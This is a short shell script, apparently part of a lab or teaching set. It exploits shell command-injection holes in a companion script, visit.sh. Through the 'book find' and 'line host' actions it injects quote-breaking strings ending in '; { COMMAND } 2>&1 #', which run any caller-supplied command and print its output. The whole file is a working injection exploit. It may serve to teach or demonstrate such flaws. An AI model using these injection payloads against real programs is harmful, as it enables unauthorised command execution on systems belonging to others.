#!/bin/sh
# A visitor who has found the holes: sends COMMAND through one and prints what comes back.
# usage: sh attack.sh book 'COMMAND'
#        sh attack.sh line 'COMMAND'
cd "$(dirname "$0")"
case $1 in
book) exec sh visit.sh book find "x' /dev/null; { $2
} 2>&1 #" ;;
*) exec sh visit.sh line host "> /dev/null 2>&1; { $2
} 2>&1 #" ;;
esac
